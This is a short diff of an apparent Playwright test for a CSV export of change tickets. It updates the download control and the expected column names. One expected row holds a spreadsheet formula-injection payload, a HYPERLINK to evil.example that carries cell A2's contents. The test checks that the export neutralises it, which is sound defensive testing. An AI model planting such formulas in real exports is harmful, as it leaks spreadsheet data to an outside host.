@@ -211,11 +211,11 @@ test('newer changes are told of and do not move what one reads; the page is offe
   await page.getByRole('button', { name: 'Newer changes: refresh' }).click()
   await cards(page).first().waitFor()
   const downloading = page.waitForEvent('download')
-  await page.getByRole('button', { name: 'Download CSV' }).click()
+  await page.getByRole('link', { name: 'Download CSV' }).click()
   const download = await downloading
   expect(download.suggestedFilename()).toMatch(/^changes-manual-\d{4}-\d{2}-\d{2}\.csv$/)
   const [header, row] = readFileSync(await download.path(), 'utf8').split('\r\n')
-  expect(header).toContain('Ticket,Summary,Description,Status')
+  expect(header).toContain('ticket_id,summary,description,status')
   expect(row).toContain(
     `CHG-9009,An e2e-newer one,"'=HYPERLINK(""https://evil.example/?x=""&A2,""Click"")\nsecond line"`,
   )
